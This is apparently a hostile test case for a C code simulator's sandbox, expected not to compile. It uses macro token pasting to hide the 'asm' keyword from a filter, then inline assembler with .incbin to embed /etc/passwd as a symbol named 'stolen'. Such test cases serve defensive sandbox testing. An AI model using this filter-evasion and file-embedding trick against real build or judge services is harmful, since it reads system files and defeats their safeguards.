// hostile: Puts a file of the system into the library, to print it later.
// lesson: 01
// verdict: not_compiled
// says: passwd
// trick: compile
// naive: no

// The simulator refuses assembler by that word.
#define PASTE(a, b) a##b
#define ASSEMBLER PASTE(as, m)
ASSEMBLER(".pushsection .rodata\n.global stolen\nstolen: .incbin \"/etc/passwd\"\n.popsection");
